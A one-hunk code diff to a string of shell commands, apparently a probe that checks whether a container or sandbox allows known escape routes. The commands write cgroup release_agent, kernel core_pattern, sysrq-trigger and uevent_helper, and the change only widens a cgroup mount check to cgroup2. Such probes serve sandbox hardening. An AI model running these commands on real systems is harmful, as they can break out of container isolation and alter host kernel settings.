@@ -36,7 +36,7 @@ _ESCAPES = r"""
 for c in /sys/fs/cgroup/*/; do
   echo /tmp/agent > ${c}release_agent; echo 1 > ${c}notify_on_release; mkdir ${c}x && echo "MADE $c"
 done 2>/dev/null
-grep -c ' cgroup ' /proc/self/mountinfo; grep ' cgroup ' /proc/self/mountinfo | grep -vc ' ro,'
+grep -Ec ' cgroup2? ' /proc/self/mountinfo; grep -E ' cgroup2? ' /proc/self/mountinfo | grep -vc ' ro,'
 echo '|/tmp/handler %p' > /proc/sys/kernel/core_pattern 2>/dev/null && echo WROTE-core_pattern
 echo h > /proc/sysrq-trigger 2>/dev/null && echo WROTE-sysrq
 echo /tmp/handler > /sys/kernel/uevent_helper 2>/dev/null && echo WROTE-uevent
